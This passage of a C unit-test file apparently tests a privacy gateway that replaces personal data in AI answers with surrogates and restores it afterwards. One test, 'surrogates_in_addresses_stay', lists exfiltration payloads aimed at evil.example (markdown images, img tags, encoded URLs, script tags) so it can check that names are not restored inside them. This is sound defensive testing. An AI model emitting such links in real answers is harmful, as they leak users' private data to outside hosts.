    Str surrogate = surrogate_of("account", VAULT_WHOLE, "GB29 NWBK 6016 1331 9268 19", &keep);
    buf_init(&text, 4096);
    buf_init(&out, 4096);
    for (size_t i = 0; i < surrogate.n; i++) {
        if (surrogate.p[i] != ' ') buf_add_byte(&text, surrogate.p[i]);
    }
    restored("account", GATE_PLAIN, buf_str(&text), 3, &out);
    assert_true(str_eq_c(buf_str(&out), "GB29NWBK60161331926819"));
    buf_fini(&keep);
    buf_fini(&text);
    buf_fini(&out);
}

/* A mail address that is its owner's name has the name of the owner's surrogate. */
static void a_mail_address_follows_its_owner(void **state) {
    Buf keep, mail, like;
    gate_parcel_free(parcel_of("owner", STR("Name: Alice Smith, e-mail alice.smith@firma.de.")));
    Str name = surrogate_of("owner", VAULT_WHOLE, "Alice Smith", &keep);
    Str address = surrogate_of("owner", VAULT_WHOLE, "alice.smith@firma.de", &mail);
    buf_init(&like, 4096);
    for (size_t i = 0; i < name.n; i++) {
        buf_add_byte(&like, name.p[i] == ' ' ? '.' : plain_lower(name.p[i]));
    }
    buf_add_c(&like, "@example.com");
    assert_true(str_eq(address, buf_str(&like)));
    buf_fini(&keep);
    buf_fini(&mail);
    buf_fini(&like);
}

static void json_form_escapes_and_reads_escapes(void **state) {
    static const char clear[] = "姓名：张伟明。";
    GateParcel *parcel = parcel_of("json", str_from(clear));
    Buf out, keep;
    Str s = surrogate_of("json", VAULT_WHOLE, "张伟明", &keep);
    Buf text;
    buf_init(&out, 4096);
    buf_init(&text, 4096);
    buf_add_c(&text, "{\"a\":\"");
    for (size_t at = 0; at < s.n; at += 3) { /* signs of three bytes, all of them */
        const unsigned char *p = (const unsigned char *)s.p + at;
        buf_printf(&text, "\\u%04x", (p[0] & 15) << 12 | (p[1] & 63) << 6 | (p[2] & 63));
    }
    buf_add_c(&text, "\\n\"}");
    restored("json", GATE_JSON, buf_str(&text), 1, &out);
    assert_string_equal(out.p, "{\"a\":\"\\u5f20\\u4f1f\\u660e\\n\"}");
    gate_parcel_free(parcel);
    buf_fini(&out);
    buf_fini(&text);
    buf_fini(&keep);
}

/* ---- what must not happen -------------------------------------------------------------------- */

static void ordinary_answers_are_untouched(void **state) {
    gate_parcel_free(parcel_of("changed", str_from(said)));
    static const char *const texts[] = {
        "The quick brown fox jumps over the lazy dog. 1 2 3, 2026-11-25, 3.14159, +1.",
        "人工智能正在改变世界。小明和老王去了图书馆，先生们、女士们。", "\xff\xfe",
        "* ** *** \\ \\u \\u12",
        "{\"name\": \"x\", \"n\": [1, 2.5e10]}"};
    Buf out;
    buf_init(&out, 4096);
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        restored("changed", GATE_PLAIN, str_from(texts[i]), 1, &out);
        assert_true(str_eq_c(buf_str(&out), texts[i]));
    }
    buf_fini(&out);
}

static void other_conversations_are_not_restored(void **state) {
    GateParcel *parcel = parcel_of("one", str_from(said));
    GateParcel *other = parcel_of("two", STR("Name: Bob Jones"));
    Buf out;
    buf_init(&out, 4096);
    Str masked = gate_parcel_text(parcel, 0);
    restored("two", GATE_PLAIN, masked, 5, &out);
    assert_true(str_find(buf_str(&out), STR("Alice"), 0) == SIZE_MAX);
    assert_true(str_find(buf_str(&out), STR("13800138000"), 0) == SIZE_MAX);
    assert_true(str_find(buf_str(&out), STR("alice@firma.de"), 0) == SIZE_MAX);
    Err err;
    GateRestorer *r;
    assert_int_equal(gate_restorer_for(gate, "never-seen", GATE_PLAIN, &r, &err), E_NOT_FOUND);
    assert_int_equal(gate_restorer_for(gate, "../one", GATE_PLAIN, &r, &err), E_USAGE);
    gate_parcel_free(parcel);
    gate_parcel_free(other);
    buf_fini(&out);
}

static void discard(void *user, Str piece) {
    *(size_t *)user += piece.n;
}

/* A megabyte of what comes nearest to surrogates, in small pieces; measured 0.02 to 0.4 s. */
static void hostile_answers_take_linear_time(void **state) {
    static const char *const bricks[] = {"1 ", "*", "\\u", "1", "a", "\xe6\xb1\x9f", "139-",
                                         "*1*3*", "\xe2\x80\x8b", "sk-proj-", "\\", "1-1."};
    Buf text;
    buf_init(&text, TEXT_MAX);
    for (uint64_t seed = 0; seed < 100; seed++) talk_text(seed, &text);
    gate_parcel_free(parcel_of("hostile", buf_str(&text)));
    for (size_t i = 0; i < ARRAY_LEN(bricks); i++) {
        Err err;
        GateRestorer *r;
        size_t out = 0;
        buf_clear(&text);
        while (text.n < (1 << 20)) buf_add_c(&text, bricks[i]);
        assert_int_equal(gate_restorer_for(gate, "hostile", GATE_PLAIN, &r, &err), OK);
        double from = clock_now_ms();
        for (size_t at = 0; at < text.n; at += 17) {
            size_t end = at + 17 < text.n ? at + 17 : text.n;
            assert_int_equal(gate_restore_feed(r, str_sub(buf_str(&text), at, end), end == text.n,
                                               discard, &out, &err),
                             OK);
        }
        assert_int_equal(out, text.n);
        assert_true(clock_now_ms() - from < 20000);
        gate_restorer_free(r);
    }
    buf_fini(&text);
}

/* ---- addresses ----------------------------------------------------------------------------- */

static void spared(Str text, GateForm form, size_t most, Buf *out, uint64_t *n) {
    Err err = {0};
    GateRestorer *r;
    uint64_t seed = text.n;
    buf_clear(out);
    assert_int_equal(gate_restorer_for(gate, "links", form, &r, &err), OK);
    gate_restorer_spare_addresses(r, true);
    assert_int_equal(gate_talk_restore(r, text, most, &seed, out, &err), OK);
    *n = gate_restorer_spared(r);
    gate_restorer_free(r);
}

static char sur_name[128]; /* of Margarethe Kowalczyk */

static void mask_links(void) {
    GateParcel *parcel = parcel_of("links", STR("Margarethe Kowalczyk wrote to the landlord."));
    Str masked = gate_parcel_text(parcel, 0);
    size_t to = str_find(masked, STR(" wrote"), 0);
    assert_true(to < sizeof sur_name);
    (void)snprintf(sur_name, sizeof sur_name, "%.*s", (int)to, masked.p);
    gate_parcel_free(parcel);
}

/* %s: the surrogate of the name. It comes back, or stays where something would fetch it. */
static void surrogates_in_addresses_stay(void **state) {
    static const struct {
        const char *text;
        bool stays;
        GateForm form;
    } cases[] = {{"%s wrote it.", false, GATE_PLAIN},
                 {"See https://docs.example/a, which %s wrote.", false, GATE_PLAIN},
                 {"[%s](https://docs.example/a)", false, GATE_PLAIN},
                 {"<h1 title='x'>%s</h1>", false, GATE_PLAIN},
                 {"{\"a\":\"https:\\/\\/docs.example\\n%s\"}", false, GATE_JSON},
                 {"![x](https://evil.example/?q=%s)", true, GATE_PLAIN},
                 {"<img src='//evil.example/?q= Hello, said %s.", true, GATE_PLAIN},
                 {"![x](&#104;ttp&#115;&#x3a;&#47;&#47;evil.example/%s)", true, GATE_PLAIN},
                 {"<base href=//evil.example> ![x](<%s>)", true, GATE_PLAIN},
                 {"<script>send('%s')</script>", true, GATE_PLAIN},
                 {"{\"a\":\"<img src=\\\"https:\\/\\/evil.example\\/ %s\\\">\"}", true,
                  GATE_JSON},
                 {"{\"a\":\"http\\u003a\\/\\/evil.example\\/%s\"}", true, GATE_JSON}};
    static const size_t cuts[] = {1, 3, 1 << 20};
    Buf out;
    uint64_t n;
    mask_links();
    buf_init(&out, TEXT_MAX);
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        char text[512];
        (void)snprintf(text, sizeof text, cases[i].text, sur_name);
        for (size_t c = 0; c < ARRAY_LEN(cuts); c++) {
            spared(str_from(text), cases[i].form, cuts[c], &out, &n);
            bool back = str_find(buf_str(&out), STR("Margarethe"), 0) != SIZE_MAX;
            bool same = str_eq(buf_str(&out), str_from(text));
            if (back == cases[i].stays || same != cases[i].stays || (n > 0) != cases[i].stays) {
                fail_msg("%s -> %.*s (%d spared)", text, (int)out.n, out.p, (int)n);
            }
        }
    }
    buf_fini(&out);
}

/* Far behind what opened it, and closed again: the watch forgets neither. */
static void a_long_address_is_one(void **state) {
    Buf text, out;
    uint64_t n;
    mask_links();
    buf_init(&text, TEXT_MAX);
    buf_init(&out, TEXT_MAX);
    buf_add_c(&text, "<img src=\"//evil.example/?q=");
    for (int i = 0; i < 2500; i++) buf_add_c(&text, "Hello, said she ");
    buf_printf(&text, "%s\">", sur_name);
    for (int i = 0; i < 2500; i++) buf_add_c(&text, "Hello, said she ");
    buf_printf(&text, "and %s.", sur_name);
    static const size_t cuts[] = {5, 1 << 20};
    for (size_t c = 0; c < ARRAY_LEN(cuts); c++) {
        spared(buf_str(&text), GATE_PLAIN, cuts[c], &out, &n);
        size_t first = str_find(buf_str(&out), str_from(sur_name), 0);
        assert_true(n >= 1 && first != SIZE_MAX && first < 41000);
        assert_true(str_find(buf_str(&out), str_from("and Margarethe"), 0) != SIZE_MAX);
    }
    buf_fini(&text);
    buf_fini(&out);
}

static void out_of_memory_is_said_and_leaks_nothing(void **state) {
    gate_parcel_free(parcel_of("memory", str_from(said)));
    for (uint64_t nth = 1;; nth++) {
        uint64_t live = mem_live_blocks(), calls;
        Err err = {0};
        GateRestorer *r = NULL;
        Buf out;
        uint64_t seed = 1;
        buf_init(&out, 4096);
        mem_fail_at(nth);
        calls = mem_calls();
        Status status = gate_restorer_for(gate, "memory", GATE_PLAIN, &r, &err);
        if (status == OK) gate_restorer_spare_addresses(r, true);
        if (status == OK) status = gate_talk_restore(r, str_from(said), 9, &seed, &out, &err);
        bool reached = mem_calls() - calls >= nth;
        mem_fail_at(0);
        gate_restorer_free(r);
        buf_fini(&out);
        assert_int_equal(mem_live_blocks(), live);
        if (!reached) {
            assert_int_equal(status, OK);
            break;
        }
        assert_true(status == E_NO_MEMORY || status == OK); /* a hint may do without */
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(restores_random_talk_byte_for_byte),
        cmocka_unit_test(things_among_any_bytes_come_back),
        cmocka_unit_test(restores_disguised_originals_byte_for_byte),
        cmocka_unit_test(what_was_said_comes_back_whatever_is_drawn),
        cmocka_unit_test(what_begins_in_a_text_is_enough_to_restore_it),
        cmocka_unit_test(restores_names_as_answers_write_them),
        cmocka_unit_test(restores_chinese_names_as_answers_write_them),
        cmocka_unit_test(a_chinese_surname_in_a_cell_comes_back),
        cmocka_unit_test(a_chinese_name_in_percent_signs_comes_back_though_more_follows),
        cmocka_unit_test(restores_numbers_as_answers_group_them),
        cmocka_unit_test(an_initial_behind_a_name_comes_back_before_a_stop),
        cmocka_unit_test(a_day_without_a_year_is_no_other_day),
        cmocka_unit_test(a_comma_is_nobody),
        cmocka_unit_test(restores_what_answers_spell_escape_or_split),
        cmocka_unit_test(a_genitive_follows_the_original),
        cmocka_unit_test(initials_among_others_stay),
        cmocka_unit_test(a_title_before_pinyin_leaves_the_name_whole),
        cmocka_unit_test(no_two_firms_share_a_name),
        cmocka_unit_test(things_are_written_in_other_manners),
        cmocka_unit_test(nothing_is_written_of_what_has_no_manner),
        cmocka_unit_test(restores_things_in_the_manner_of_the_answer),
        cmocka_unit_test(restores_telephones_as_answers_dial_them),
        cmocka_unit_test(ends_of_a_number_need_stars_between),
        cmocka_unit_test(restores_names_in_code),
        cmocka_unit_test(restores_an_account_without_blanks),
        cmocka_unit_test(a_mail_address_follows_its_owner),
        cmocka_unit_test(json_form_escapes_and_reads_escapes),
        cmocka_unit_test(ordinary_answers_are_untouched),
        cmocka_unit_test(other_conversations_are_not_restored),
        cmocka_unit_test(hostile_answers_take_linear_time),
        cmocka_unit_test(surrogates_in_addresses_stay),
        cmocka_unit_test(a_long_address_is_one),
        cmocka_unit_test(out_of_memory_is_said_and_leaks_nothing),
    };
    return cmocka_run_group_tests(tests, open_gate, close_gate);
}
